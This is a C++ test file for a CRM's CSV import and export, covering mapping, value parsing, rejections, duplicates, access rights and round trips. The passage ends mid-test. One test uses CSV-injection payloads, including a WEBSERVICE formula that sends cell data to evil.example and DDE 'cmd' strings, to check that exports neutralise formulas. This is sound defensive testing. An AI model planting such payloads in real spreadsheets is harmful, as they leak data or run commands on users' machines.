// Importing tables: mapping, per-type values, rejected rows, duplicates, companies created on the way, rights,
// and the round trip export -> import that keeps every value.
#include <doctest/doctest.h>

#include <regex>

#include "core/demo.hpp"
#include "core/io/export.hpp"
#include "core/io/import.hpp"
#include "core/rights.hpp"
#include "io_support.hpp"
#include "test_support.hpp"

using namespace kt;
using namespace kt::io;
using kt::test::apply_plan;
using kt::test::fixture;
using kt::test::kNow;
using kt::test::plan_table;

namespace {

struct Demo {
  Workspace ws;
  Session admin{ws, "a", "u1"};
  Demo() { seed_demo(admin, kNow); }

  void list_field(const std::string& entity, const std::string& id, Labels label, std::vector<ListOption> options,
                  bool multiple = false) {
    FieldDef f = test::list_field(entity, id, std::move(label), std::move(options));
    f.multiple = multiple;
    REQUIRE(admin.dispatch(PutField{f}, kNow).ok());
  }
  void field(const std::string& entity, const std::string& id, FieldType type, Labels label,
             std::vector<std::string> visible_to = {}) {
    FieldDef f;
    f.id = id;
    f.entity = entity;
    f.type = type;
    f.label = std::move(label);
    f.visible_to = std::move(visible_to);
    REQUIRE(admin.dispatch(PutField{f}, kNow).ok());
  }
  // The items of an entity created after `before` (ids in creation order).
  std::vector<const Item*> new_items(const std::string& entity, size_t before) const {
    std::vector<const Item*> out;
    const auto& ids = ws.item_ids(entity);
    for (size_t i = before; i < ids.size(); ++i) out.push_back(ws.item(ids[i]));
    return out;
  }
};

ImportOptions options_for(const Workspace& ws, const std::string& entity, const std::vector<std::string>& header,
                          const std::string& user = "u1") {
  ImportOptions o;
  o.entity = entity;
  o.columns = suggest_mapping(ws.schema(), user, entity, header);
  return o;
}

}  // namespace

TEST_CASE("a LibreOffice deal table maps by headings (custom field too) and imports every value") {
  Demo d;
  d.list_field("deal", "UF_CRM_REGION", {"Регион", "Region"}, {{"N", {"Север", "North"}}, {"S", {"Юг", "South"}}});
  CsvTable t = parse_csv(fixture("libreoffice_deals_semicolon_bom.csv"));
  ImportOptions o = options_for(d.ws, "deal", t.header);
  CHECK(o.columns == std::vector<std::string>{"TITLE", "OPPORTUNITY_WITH_CURRENCY", "STAGE_ID", "TYPE_ID", "SOURCE_ID",
                                              "BEGINDATE", "CLOSEDATE", "ASSIGNED_BY_ID", "PROBABILITY",
                                              "UF_CRM_REGION", "COMMENTS"});
  ImportPlanner p(d.ws, "u1", o, t.header);
  REQUIRE(p.status().ok());
  const size_t before = d.ws.item_ids("deal").size();
  plan_table(d.ws, p, t);
  CHECK(p.rows_seen() == 4);
  CHECK(p.rows_planned() == 4);
  CHECK(p.rejections().empty());
  CHECK(d.ws.item_ids("deal").size() == before);  // planning writes nothing

  CHECK(apply_plan(d.admin, p, DuplicateAction::Skip, kNow) == 0);
  auto items = d.new_items("deal", before);
  REQUIRE(items.size() == 4);
  const Item& a = *items[0];
  CHECK(a.get("TITLE") == Value("Поставка кабеля"));
  CHECK(a.get("OPPORTUNITY_WITH_CURRENCY") == Value(Money{15000050, "RUB"}));
  CHECK(a.get("STAGE_ID") == Value("PREPARATION"));
  CHECK(a.get("TYPE_ID") == Value("GOODS"));
  CHECK(a.get("SOURCE_ID") == Value("ADVERTISING"));
  CHECK(a.get("BEGINDATE") == Value("2026-12-01"));
  CHECK(a.get("CLOSEDATE") == Value("2026-12-20"));
  CHECK(a.get("ASSIGNED_BY_ID") == Value("u2"));
  CHECK(a.get("PROBABILITY") == Value(40));
  CHECK(a.get("UF_CRM_REGION") == Value("N"));
  CHECK(a.get("COMMENTS") == Value("Позвонить; уточнить объём"));
  CHECK(a.pipeline == "0");
  CHECK(items[1]->get("STAGE_ID") == Value("NEW"));
  CHECK(items[1]->get("CLOSEDATE") == Value("2027-01-15"));
  CHECK(items[2]->get("TITLE") == Value("Аренда склада \"Восток\""));
  CHECK(items[2]->get("OPPORTUNITY_WITH_CURRENCY") == Value(Money{125000000, "RUB"}));
  CHECK(items[2]->get("STAGE_ID") == Value("EXECUTING"));
  CHECK(items[3]->get("OPPORTUNITY_WITH_CURRENCY") == Value(Money{1250000, "USD"}));
  // Created like any item: with a "created" entry in its timeline, by the importing user.
  REQUIRE_FALSE(d.ws.timeline(a.id).empty());
  CHECK(d.ws.timeline(a.id).front().kind == TimelineKind::Created);
  CHECK(a.created_by == "u1");
}

TEST_CASE("a Windows-1251 contact table from Excel imports with ё, phones and birth dates") {
  Demo d;
  CsvTable t = parse_csv(fixture("excel_contacts_cp1251.csv"));
  ImportOptions o = options_for(d.ws, "contact", t.header);
  CHECK(o.columns == std::vector<std::string>{"LAST_NAME", "NAME", "POST", "PHONE", "EMAIL", "BIRTHDATE"});
  ImportPlanner p(d.ws, "u1", o, t.header);
  plan_table(d.ws, p, t);
  CHECK(p.rejections().empty());
  const size_t before = d.ws.item_ids("contact").size();
  CHECK(apply_plan(d.admin, p, DuplicateAction::Skip, kNow) == 0);
  auto items = d.new_items("contact", before);
  REQUIRE(items.size() == 3);
  CHECK(d.ws.display_name(*items[0]) == "Семёнова Алёна");
  CHECK(items[0]->get("PHONE") == Value(Value::List{Value("+7 (921) 555-12-34")}));
  CHECK(items[0]->get("EMAIL") == Value(Value::List{Value("alena@example.ru")}));
  CHECK(items[0]->get("BIRTHDATE") == Value("1985-03-14"));
  CHECK(items[1]->get("BIRTHDATE").is_null());
  CHECK(items[2]->get("POST") == Value("Юрист «Права»"));
}

TEST_CASE("a table with quoted line breaks imports companies with multi-line comments") {
  Demo d;
  CsvTable t = parse_csv(fixture("sheets_companies_quoted_newlines.csv"));
  ImportOptions o = options_for(d.ws, "company", t.header);
  CHECK(o.columns == std::vector<std::string>{"TITLE", "PHONE", "EMAIL", "WEB", "COMMENTS"});
  ImportPlanner p(d.ws, "u1", o, t.header);
  plan_table(d.ws, p, t);
  CHECK(p.rejections().empty());
  const size_t before = d.ws.item_ids("company").size();
  CHECK(apply_plan(d.admin, p, DuplicateAction::Skip, kNow) == 0);
  auto items = d.new_items("company", before);
  REQUIRE(items.size() == 3);
  CHECK(items[0]->get("TITLE") == Value("Vector, LLC"));
  CHECK(items[0]->get("COMMENTS") == Value("First line\r\nsecond line, with a comma\r\nthird \"quoted\" line"));
  CHECK(items[1]->get("COMMENTS") == Value("Адрес:\nМосква, ул. Тверская, 7"));
  CHECK(items[1]->get("WEB") == Value("oblako-plus.example"));
  CHECK(items[2]->get("PHONE").is_null());
}

TEST_CASE("malformed rows are rejected with row, column and reason; the good rows still import") {
  Demo d;
  REQUIRE(d.admin.dispatch(SetRequired{"deal", "TITLE", true, {}}, kNow).ok());
  CsvTable t = parse_csv(fixture("malformed_deals.csv"));
  ImportOptions o = options_for(d.ws, "deal", t.header);
  CHECK(o.columns[4].empty());  // "Телефон клиента": deals have no phone field
  ImportPlanner p(d.ws, "u1", o, t.header);
  plan_table(d.ws, p, t);
  CHECK(p.rows_seen() == 10);
  CHECK(p.rows_planned() == 3);
  CHECK(p.rows_rejected() == 7);
  struct Expect {
    size_t row, line;
    int column;
    const char* code;
  };
  const Expect expected[] = {
      {2, 3, 2, "invalid_date"},    {3, 4, 1, "invalid_money"},   {4, 5, 3, "unknown_option"},
      {5, 6, 6, "too_many_values"}, {6, 7, -1, "required_missing"}, {7, 8, 5, "invalid_integer"},
      {9, 10, -1, "unclosed_quote"},
  };
  REQUIRE(p.rejections().size() == std::size(expected));
  for (size_t i = 0; i < std::size(expected); ++i) {
    const Rejection& r = p.rejections()[i];
    CAPTURE(i);
    CHECK(r.row == expected[i].row);
    CHECK(r.line == expected[i].line);
    CHECK(r.column == expected[i].column);
    CHECK(r.code == expected[i].code);
    CHECK_FALSE(r.message.empty());
  }
  CHECK(p.rejections()[0].column_name == "Дата завершения");
  CHECK(p.rejections()[0].value == "31.02.2026");
  CHECK(p.rejections()[2].value == "Бартер");
  // Nothing was written by checking; confirming imports the three good rows.
  const size_t before = d.ws.item_ids("deal").size();
  CHECK(d.ws.item_ids("deal").size() == before);
  CHECK(apply_plan(d.admin, p, DuplicateAction::Skip, kNow) == 0);
  auto items = d.new_items("deal", before);
  REQUIRE(items.size() == 3);
  CHECK(items[0]->get("TITLE") == Value("Хорошая сделка"));
  CHECK(items[1]->get("TYPE_ID") == Value("SERVICES"));
  CHECK(items[2]->get("TITLE") == Value("После кавычки"));
}

TEST_CASE("per-type parsing: ISO and Russian dates, comma and dot decimals, list options by label, yes/no") {
  Demo d;
  d.field("deal", "UF_CRM_RATE", FieldType::Number, {"Ставка", "Rate"});
  d.field("deal", "UF_CRM_AT", FieldType::DateTime, {"Встреча", "Meeting"});
  d.field("deal", "UF_CRM_OK", FieldType::Boolean, {"Согласовано", "Approved"});
  d.list_field("deal", "UF_CRM_TAGS", {"Метки", "Tags"}, {{"a", {"Срочно", "Urgent"}}, {"b", {"VIP, ключевой", "VIP"}}}, true);
  const std::vector<std::string> header{"Название", "Ставка", "Встреча", "Согласовано", "Метки", "Дата завершения"};
  ImportOptions o = options_for(d.ws, "deal", header);
  CHECK(o.columns == std::vector<std::string>{"TITLE", "UF_CRM_RATE", "UF_CRM_AT", "UF_CRM_OK", "UF_CRM_TAGS", "CLOSEDATE"});
  ImportPlanner p(d.ws, "u1", o, header);
  p.add_row(d.ws, 2, {"A", "1 234,5", "26.11.2026 18:45", "да", "срочно", "2026-11-26"});
  p.add_row(d.ws, 3, {"B", "1,234.5", "2026-11-26 18:45:30", "No", "VIP, ключевой; Urgent", "26/11/2026"});
  p.add_row(d.ws, 4, {"C", "0.25", "2026-11-26T09:05", "1", "urgent, vip", "26.11.26"});
  p.add_row(d.ws, 5, {"D", "abc", "завтра", "может быть", "Другое", "26.13.2026"});
  REQUIRE(p.rows_planned() == 3);
  const size_t before = d.ws.item_ids("deal").size();
  REQUIRE(apply_plan(d.admin, p, DuplicateAction::Skip, kNow) == 0);
  auto items = d.new_items("deal", before);
  CHECK(items[0]->get("UF_CRM_RATE") == Value(1234.5));
  CHECK(items[1]->get("UF_CRM_RATE") == Value(1234.5));
  CHECK(items[2]->get("UF_CRM_RATE") == Value(0.25));
  CHECK(items[0]->get("UF_CRM_AT") == Value("2026-11-26T18:45"));
  CHECK(items[1]->get("UF_CRM_AT") == Value("2026-11-26T18:45"));
  CHECK(items[2]->get("UF_CRM_AT") == Value("2026-11-26T09:05"));
  CHECK(items[0]->get("UF_CRM_OK") == Value(true));
  CHECK(items[1]->get("UF_CRM_OK") == Value(false));
  CHECK(items[0]->get("UF_CRM_TAGS") == Value(Value::List{Value("a")}));
  CHECK(items[1]->get("UF_CRM_TAGS") == Value(Value::List{Value("b"), Value("a")}));
  CHECK(items[2]->get("UF_CRM_TAGS") == Value(Value::List{Value("a"), Value("b")}));
  for (const Item* it : items) CHECK(it->get("CLOSEDATE") == Value("2026-11-26"));
  // Row D: every bad cell is reported, each with its column.
  std::vector<std::string> codes;
  for (const auto& r : p.rejections()) codes.push_back(r.code);
  CHECK(codes == std::vector<std::string>{"invalid_number", "invalid_datetime", "invalid_boolean", "unknown_option",
                                          "invalid_date"});
}

TEST_CASE("duplicates by phone or e-mail: skip, merge (fill gaps, add phones and e-mails) or create") {
  const std::vector<std::string> header{"Фамилия", "Имя", "Должность", "Телефон", "E-mail", "Дата рождения"};
  // C1 "Орлова Екатерина", +7 912 555-10-01, orlova@sever-veter.ru, post "Директор по закупкам".
  const std::vector<std::vector<std::string>> rows = {
      {"Орлова", "Екатерина", "Менеджер", "8 (912) 555-10-01", "katya@example.ru", "14.03.1985"},
      {"Новикова", "Ирина", "", "+7 900 111-22-33", "", ""},
      {"Новикова", "И.", "Юрист", "89001112233", "irina@example.ru", ""},
      {"Иной", "Человек", "", "", "ORLOVA@sever-veter.ru", ""},
  };
  auto run = [&](DuplicateAction action, Demo& d) {
    ImportPlanner p(d.ws, "u1", options_for(d.ws, "contact", header), header);
    for (size_t i = 0; i < rows.size(); ++i) p.add_row(d.ws, i + 2, rows[i]);
    CHECK(p.rows_planned() == 4);
    CHECK(p.duplicates() == 3);
    CHECK(p.duplicates_of_existing() == 2);
    const size_t before = d.ws.item_ids("contact").size();
    const size_t creates = p.would_create(action);
    CHECK(apply_plan(d.admin, p, action, kNow) == 0);
    CHECK(d.ws.item_ids("contact").size() - before == creates);
    return d.new_items("contact", before);
  };
  SUBCASE("skip") {
    Demo d;
    auto items = run(DuplicateAction::Skip, d);
    REQUIRE(items.size() == 1);
    CHECK(items[0]->get("NAME") == Value("Ирина"));
    CHECK(d.ws.item("C1")->get("POST") == Value("Директор по закупкам"));
  }
  SUBCASE("merge") {
    Demo d;
    auto items = run(DuplicateAction::Merge, d);
    REQUIRE(items.size() == 1);
    // The two rows of Ирина become one item: the second row adds its e-mail and fills the empty post.
    CHECK(items[0]->get("NAME") == Value("Ирина"));
    CHECK(items[0]->get("POST") == Value("Юрист"));
    CHECK(items[0]->get("EMAIL") == Value(Value::List{Value("irina@example.ru")}));
    CHECK(items[0]->get("PHONE") == Value(Value::List{Value("+7 900 111-22-33")}));
    const Item& c1 = *d.ws.item("C1");
    CHECK(c1.get("POST") == Value("Директор по закупкам"));  // never overwritten
    CHECK(c1.get("BIRTHDATE") == Value("1985-03-14"));       // an empty field is filled
    CHECK(c1.get("EMAIL") == Value(Value::List{Value("orlova@sever-veter.ru"), Value("katya@example.ru")}));
    CHECK(c1.get("PHONE").as_list().size() == 1);  // the same number written differently is not added
    // Merged values are recorded in the timeline like any edit.
    CHECK(d.ws.timeline("C1").back().kind == TimelineKind::FieldChanged);
  }
  SUBCASE("create anyway") {
    Demo d;
    auto items = run(DuplicateAction::Create, d);
    CHECK(items.size() == 4);
  }
}

TEST_CASE("merging several rows into one existing item in one batch keeps every addition") {
  Demo d;
  const std::vector<std::string> header{"Фамилия", "Имя", "Телефон", "E-mail"};
  ImportPlanner p(d.ws, "u1", options_for(d.ws, "contact", header), header);
  // Both rows are C1 by phone; each brings another e-mail.
  p.add_row(d.ws, 2, {"Орлова", "Екатерина", "+7 912 555-10-01", "first@example.ru"});
  p.add_row(d.ws, 3, {"Орлова", "Екатерина", "+7 912 555-10-01", "second@example.ru"});
  CHECK(p.duplicates_of_existing() == 2);
  CHECK(apply_plan(d.admin, p, DuplicateAction::Merge, kNow, 100) == 0);
  CHECK(d.ws.item("C1")->get("EMAIL") == Value(Value::List{Value("orlova@sever-veter.ru"), Value("first@example.ru"),
                                                           Value("second@example.ru")}));
}

TEST_CASE("links by name: an existing company is found; a missing one is created when allowed") {
  Demo d;
  const std::vector<std::string> header{"ФИО", "Компания", "Ответственный"};
  ImportOptions o = options_for(d.ws, "contact", header);
  CHECK(o.columns == std::vector<std::string>{kFullName, "COMPANY_ID", "ASSIGNED_BY_ID"});
  const std::vector<std::vector<std::string>> rows = {
      {"Зайцев Пётр Ильич", "ООО «Облако»", "Иван Петров"},
      {"Лисина Ольга", "ООО «Новая Заря»", "Анна Смирнова"},
      {"Волков Игорь", "ооо «новая заря»", ""},
  };
  SUBCASE("not allowed: the row is rejected") {
    ImportPlanner p(d.ws, "u1", o, header);
    for (size_t i = 0; i < rows.size(); ++i) p.add_row(d.ws, i + 2, rows[i]);
    CHECK(p.rows_planned() == 1);
    REQUIRE(p.rejections().size() == 2);
    CHECK(p.rejections()[0].code == "unknown_item");
    CHECK(p.rejections()[0].column == 1);
  }
  SUBCASE("allowed: one company is created for both rows, before them") {
    o.create_companies = true;
    ImportPlanner p(d.ws, "u1", o, header);
    for (size_t i = 0; i < rows.size(); ++i) p.add_row(d.ws, i + 2, rows[i]);
    CHECK(p.rows_planned() == 3);
    CHECK(p.new_companies() == std::vector<std::string>{"ООО «Новая Заря»"});
    const size_t companies = d.ws.item_ids("company").size(), contacts = d.ws.item_ids("contact").size();
    CHECK(apply_plan(d.admin, p, DuplicateAction::Skip, kNow) == 0);
    auto made = d.new_items("company", companies);
    REQUIRE(made.size() == 1);
    auto people = d.new_items("contact", contacts);
    REQUIRE(people.size() == 3);
    CHECK(people[0]->get("LAST_NAME") == Value("Зайцев"));
    CHECK(people[0]->get("NAME") == Value("Пётр Ильич"));
    CHECK(people[0]->get("COMPANY_ID") == Value("CO4"));
    CHECK(people[0]->get("ASSIGNED_BY_ID") == Value("u2"));
    CHECK(people[1]->get("COMPANY_ID") == Value(made[0]->id));
    CHECK(people[2]->get("COMPANY_ID") == Value(made[0]->id));
    // The company's timeline knows its new contacts.
    size_t links = 0;
    for (const auto& e : d.ws.timeline(made[0]->id)) links += e.kind == TimelineKind::Linked;
    CHECK(links == 2);
  }
}

TEST_CASE("rights: fields a user may not see are not offered and not accepted; no import without the add right") {
  Demo d;
  d.field("deal", "UF_CRM_MARGIN", FieldType::Number, {"Маржа", "Margin"}, {"U1"});
  const std::vector<std::string> header{"Название", "Маржа"};
  auto fields_u2 = importable_fields(d.ws.schema(), "u2", "deal");
  CHECK(std::find(fields_u2.begin(), fields_u2.end(), "UF_CRM_MARGIN") == fields_u2.end());
  CHECK(suggest_mapping(d.ws.schema(), "u2", "deal", header) == std::vector<std::string>{"TITLE", ""});
  CHECK(suggest_mapping(d.ws.schema(), "u1", "deal", header) == std::vector<std::string>{"TITLE", "UF_CRM_MARGIN"});
  ImportOptions o;
  o.entity = "deal";
  o.columns = {"TITLE", "UF_CRM_MARGIN"};
  ImportPlanner p(d.ws, "u2", o, header);
  CHECK(p.status().code == "unknown_field");
  p.add_row(d.ws, 2, {"x", "1"});
  CHECK(p.rows_seen() == 0);

  Role reader{"reader", "Только чтение", {}, {}};
  reader.defaults.add = Level::None;
  REQUIRE(d.admin.dispatch(PutRole{reader, false}, kNow).ok());
  REQUIRE(d.admin.dispatch(PutUser{User{"u9", "Читатель", "d2", false, {"reader"}, true}}, kNow).ok());
  o.columns = {"TITLE", ""};
  CHECK(ImportPlanner(d.ws, "u9", o, header).status().code == "forbidden");
  // A field chosen for two columns, or nothing chosen at all, is a mapping to fix before anything is read.
  o.columns = {"TITLE", "TITLE"};
  CHECK(ImportPlanner(d.ws, "u1", o, header).status().code == "mapped_twice");
  o.columns = {"", ""};
  CHECK(ImportPlanner(d.ws, "u1", o, header).status().code == "nothing_mapped");
}

namespace {

// Every value of `a` that `user` may see equals the same field of `b` (the item's own id, dates and the
// stage history aside).
void check_same_values(const Workspace& ws, const Item& a, const Item& b, const std::vector<std::string>& fields) {
  for (const auto& f : fields) {
    CAPTURE(a.id);
    CAPTURE(f);
    CHECK(a.get(f) == b.get(f));
  }
}

}  // namespace

TEST_CASE("round trip: a list exported to CSV imports back with every value, in Russian and in English") {
  for (Lang lang : {Lang::Ru, Lang::En}) {
    CAPTURE(lang == Lang::Ru ? "ru" : "en");
    Demo d;
    d.field("deal", "UF_CRM_RATE", FieldType::Number, {"Ставка", "Rate"});
    d.field("deal", "UF_CRM_AT", FieldType::DateTime, {"Встреча", "Meeting"});
    d.field("deal", "UF_CRM_OK", FieldType::Boolean, {"Согласовано", "Approved"});
    d.field("deal", "UF_CRM_SITE", FieldType::Link, {"Страница", "Page"});
    d.field("deal", "UF_CRM_NOTE", FieldType::String, {"Заметка", "Note"});
    d.field("deal", "UF_CRM_COUNT", FieldType::Integer, {"Количество", "Count"});
    d.list_field("deal", "UF_CRM_TAGS", {"Метки", "Tags"}, {{"a", {"Срочно", "Urgent"}}, {"b", {"VIP, ключевой", "VIP"}}}, true);
    const std::vector<std::pair<std::string, Value>> extra = {
        {"UF_CRM_RATE", Value(3.14159)},       {"UF_CRM_AT", Value("2026-11-26T18:45")},
        {"UF_CRM_OK", Value(false)},           {"UF_CRM_SITE", Value("https://example.com/a?b=1;c=2")},
        {"UF_CRM_NOTE", Value("=SUM(A1:A2)")}, {"UF_CRM_COUNT", Value(-12)},
        {"UF_CRM_TAGS", Value(Value::List{Value("b"), Value("a")})},
        {"COMMENTS", Value("Строка 1\nСтрока 2; \"кавычки\", запятые")},
        {"OPPORTUNITY_WITH_CURRENCY", Value(Money{-5, "EUR"})},
    };
    for (const auto& [f, v] : extra) REQUIRE(d.admin.dispatch(SetField{"D2", f, v, {}}, kNow).ok());
    REQUIRE(d.admin.dispatch(SetField{"D3", "UF_CRM_NOTE", Value("'+apostrophe")}, kNow).ok());

    std::vector<std::string> ids;
    for (const auto& id : d.ws.item_ids("deal"))
      if (d.ws.item(id)->pipeline == "0") ids.push_back(id);
    std::vector<std::string> columns = {"TITLE"};
    for (const FieldDef* f : d.ws.schema().fields_of("deal")) columns.push_back(f->id);
    const std::string csv = export_csv(d.ws, "u1", "deal", ids, columns, lang);
    CHECK(csv.rfind("\xEF\xBB\xBF", 0) == 0);

    CsvTable t = parse_csv(csv);
    CHECK(t.delimiter == (lang == Lang::Ru ? ';' : ','));
    ImportOptions o = options_for(d.ws, "deal", t.header);
    for (size_t c = 0; c < o.columns.size(); ++c) CHECK_MESSAGE(!o.columns[c].empty(), t.header[c]);
    ImportPlanner p(d.ws, "u1", o, t.header);
    plan_table(d.ws, p, t);
    for (const auto& r : p.rejections()) MESSAGE(r.row << " " << r.column_name << " " << r.code << " " << r.message);
    REQUIRE(p.rejections().empty());
    const size_t before = d.ws.item_ids("deal").size();
    REQUIRE(apply_plan(d.admin, p, DuplicateAction::Create, kNow) == 0);
    auto items = d.new_items("deal", before);
    REQUIRE(items.size() == ids.size());
    std::vector<std::string> fields;
    for (const FieldDef* f : d.ws.schema().fields_of("deal")) fields.push_back(f->id);
    for (size_t i = 0; i < ids.size(); ++i) check_same_values(d.ws, *d.ws.item(ids[i]), *items[i], fields);
  }
}

TEST_CASE("round trip of contacts: the name column becomes last and first name; restricted fields stay out") {
  Demo d;
  d.field("contact", "UF_CRM_SECRET", FieldType::String, {"Секрет", "Secret"}, {"U1"});
  REQUIRE(d.admin.dispatch(SetField{"C1", "UF_CRM_SECRET", Value("тайна")}, kNow).ok());
  REQUIRE(d.admin.dispatch(SetField{"C1", "BIRTHDATE", Value("1985-03-14")}, kNow).ok());
  REQUIRE(d.admin.dispatch(SetField{"C1", "PHONE", Value(Value::List{Value("+7 912 555-10-01"), Value("+7 912 555-10-02")})}, kNow).ok());
  const std::vector<std::string> columns{"TITLE", "POST", "PHONE", "EMAIL", "COMPANY_ID", "BIRTHDATE", "UF_CRM_SECRET"};
  const auto& ids = d.ws.item_ids("contact");

  const std::string as_ivan = export_csv(d.ws, "u2", "contact", ids, columns, Lang::Ru);
  CHECK(as_ivan.find("тайна") == std::string::npos);
  CHECK(as_ivan.find("Секрет") == std::string::npos);
  const std::string csv = export_csv(d.ws, "u1", "contact", ids, columns, Lang::Ru);
  CHECK(csv.find("тайна") != std::string::npos);

  CsvTable t = parse_csv(csv);
  CHECK(t.header == std::vector<std::string>{"Фамилия", "Имя", "Должность", "Телефон", "E-mail", "Компания",
                                             "Дата рождения", "Секрет"});
  ImportPlanner p(d.ws, "u1", options_for(d.ws, "contact", t.header), t.header);
  plan_table(d.ws, p, t);
  REQUIRE(p.rejections().empty());
  CHECK(p.duplicates_of_existing() == ids.size());  // the same phones: every row is a duplicate
  const size_t before = ids.size();
  REQUIRE(apply_plan(d.admin, p, DuplicateAction::Create, kNow) == 0);
  auto items = d.new_items("contact", before);
  REQUIRE(items.size() == before);
  for (size_t i = 0; i < before; ++i)
    check_same_values(d.ws, *d.ws.item(d.ws.item_ids("contact")[i]), *items[i],
                      {"LAST_NAME", "NAME", "POST", "PHONE", "EMAIL", "COMPANY_ID", "BIRTHDATE", "UF_CRM_SECRET"});
}

namespace {

// A cell a spreadsheet would run: =, @, tab or CR first, or + or - followed by more than a number, phone or amount.
bool runs_as_formula(const std::string& cell) {
  if (cell.empty()) return false;
  const char c = cell.front();
  if (c == '=' || c == '@' || c == '\t' || c == '\r') return true;
  if (c != '+' && c != '-') return false;
  static const std::regex plain(R"([-+][0-9 ()+,.-]*( [A-Z]{3})?)");
  return !std::regex_match(cell, plain);
}

}  // namespace

TEST_CASE("CSV export: no cell runs as a formula, whatever kind of value or label it shows; the import reads them back") {
  Demo d;
  const std::string payload = "=WEBSERVICE(\"evil.example/?\"&A1)";  // passes for a web address
  // A field label is the header row's cell.
  d.field("contact", "UF_CRM_SITE", FieldType::Link, {"=HYPERLINK(\"http://evil.example\")", "@SUM(1)"});
  d.field("contact", "UF_CRM_TAB", FieldType::String, {"-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"});
  d.field("contact", "UF_CRM_CR", FieldType::String, {"\tTab label", "\rCR label"});
  d.list_field("contact", "UF_CRM_KIND", {"Вид", "Kind"}, {{"x", {"+SUM(1+1)", "+SUM(1+1)"}}});
  // The linked company's title and the responsible user's name are shown by name.
  REQUIRE(d.admin.dispatch(SetField{"CO1", "TITLE", Value("@SUM(1+1)*cmd|' /C calc'!A0")}, kNow).ok());
  REQUIRE(d.admin.dispatch(PutUser{User{"u2", "-1+HYPERLINK(\"http://evil.example\")", "d2", false, {"manager"}, true}}, kNow).ok());
  const std::vector<std::pair<std::string, Value>> values = {
      {"UF_CRM_SITE", Value(payload)},
      {"EMAIL", Value(Value::List{Value("=1+1@evil.example"), Value("ok@example.com")})},
      {"PHONE", Value(Value::List{Value("+7 912 555-10-01"), Value("-1-1 (555)")})},
      {"UF_CRM_TAB", Value("\t=1+1")},
      {"UF_CRM_CR", Value("\r=1+1")},
      {"UF_CRM_KIND", Value("x")},
      {"POST", Value("'=already guarded by hand")},
      {"COMPANY_ID", Value("CO1")},
      {"ASSIGNED_BY_ID", Value("u2")},
  };
  for (const auto& [f, v] : values) {
    Status st = d.admin.dispatch(SetField{"C1", f, v, {}}, kNow);
    REQUIRE_MESSAGE(st.ok(), f << ": " << st.code << " " << st.message);
  }
  // A plain phone and a negative amount stay data (no apostrophe to show in the spreadsheet).
  CHECK(!formula_like("+7 912 555-10-01"));
  CHECK(!formula_like("-15"));
  CHECK(!formula_like("-0,05 EUR"));
  CHECK(formula_like("-0,05 EUR+A1"));
  CHECK(formula_like("'=1"));  // its apostrophe would be taken for a guard
  CHECK(!formula_like("'-1"));

  const std::vector<std::string> columns{"TITLE",      "POST",      "PHONE",      "EMAIL",         "COMPANY_ID",
                                         "UF_CRM_SITE", "UF_CRM_TAB", "UF_CRM_CR", "UF_CRM_KIND", "ASSIGNED_BY_ID"};
  for (Lang lang : {Lang::Ru, Lang::En}) {
    CAPTURE(lang == Lang::Ru ? "ru" : "en");
    const auto table = export_table(d.ws, "u1", "contact", {"C1"}, columns, lang);
    REQUIRE(table.size() == 2);
    for (const auto& row : table)
      for (const auto& cell : row) CHECK_MESSAGE(!runs_as_formula(cell), cell);
    const auto& header = table[0];
    CHECK(header[6] == (lang == Lang::Ru ? "'=HYPERLINK(\"http://evil.example\")" : "'@SUM(1)"));
    CHECK(header[7] == (lang == Lang::Ru ? "'-2+3+cmd|' /C calc'!A0" : "'+cmd|' /C calc'!A0"));
    CHECK(header[8] == (lang == Lang::Ru ? "'\tTab label" : "'\rCR label"));
    const auto& row = table[1];
    CHECK(row[2] == "''=already guarded by hand");
    CHECK(row[3] == "+7 912 555-10-01, -1-1 (555)");  // phones hold no letters: no formula
    CHECK(row[4] == "'=1+1@evil.example, ok@example.com");
    CHECK(row[5] == "'@SUM(1+1)*cmd|' /C calc'!A0");
    CHECK(row[6] == "'" + payload);
    CHECK(row[7] == "'\t=1+1");
    CHECK(row[8] == "'\r=1+1");
    CHECK(row[9] == "'+SUM(1+1)");
    CHECK(row[10] == "'-1+HYPERLINK(\"http://evil.example\")");

    // Through the CSV text, the cells read back as written, and the import drops the apostrophes again.
    const std::string csv = export_csv(d.ws, "u1", "contact", {"C1"}, columns, lang);
    CsvTable t = parse_csv(csv);
    CHECK(t.header == header);
    REQUIRE(t.rows.size() == 1);
    CHECK(t.rows[0].fields == row);
    ImportOptions o = options_for(d.ws, "contact", t.header);
    o.columns = {"LAST_NAME", "NAME", "POST", "PHONE", "EMAIL", "COMPANY_ID", "UF_CRM_SITE", "UF_CRM_TAB", "UF_CRM_CR",
                 "UF_CRM_KIND", "ASSIGNED_BY_ID"};
    ImportPlanner p(d.ws, "u1", o, t.header);
    plan_table(d.ws, p, t);
    for (const auto& r : p.rejections()) MESSAGE(r.row << " " << r.column_name << " " << r.code << " " << r.message);
    REQUIRE(p.rejections().empty());
    const size_t before = d.ws.item_ids("contact").size();
    REQUIRE(apply_plan(d.admin, p, DuplicateAction::Create, kNow) == 0);
    auto items = d.new_items("contact", before);
    REQUIRE(items.size() == 1);
    check_same_values(d.ws, *d.ws.item("C1"), *items[0],
                      {"POST", "PHONE", "EMAIL", "COMPANY_ID", "UF_CRM_SITE", "UF_CRM_KIND", "ASSIGNED_BY_ID"});
  }
}

TEST_CASE("100,000 rows are planned and imported in chunks") {
  Demo d;
  const std::vector<std::string> header{"Фамилия", "Имя", "Телефон", "E-mail", "Должность"};
  ImportPlanner p(d.ws, "u1", options_for(d.ws, "contact", header), header);
  for (int i = 0; i < 100000; ++i) {
    const std::string n = std::to_string(i);
    p.add_row(d.ws, static_cast<size_t>(i) + 2,
              {"Фамилия" + n, "Имя", "+7 900 " + std::to_string(1000000 + i), "p" + n + "@example.ru", "Менеджер"});
  }
  CHECK(p.rows_planned() == 100000);
  CHECK(p.duplicates() == 0);
  const size_t before = d.ws.item_ids("contact").size();
  CHECK(apply_plan(d.admin, p, DuplicateAction::Skip, kNow, 2000) == 0);
  CHECK(d.ws.item_ids("contact").size() == before + 100000);
}

// Issue 20 (fuzzing): one cell of 20,000 phones, or 20,000 phone columns, took seconds to minutes to check
// (each value compared with every value before it). A field takes at most CellReader::kMaxValues values
// from a row; a row with more is refused, naming the cell.
TEST_CASE("a row with more than a thousand values for one field is refused with too_many_elements") {
  Demo d;
  std::string many;
  for (size_t i = 0; i < 20000; ++i) many += (i ? "\n" : "") + std::string("+7 900 ") + std::to_string(1000000 + i);
  std::string almost;
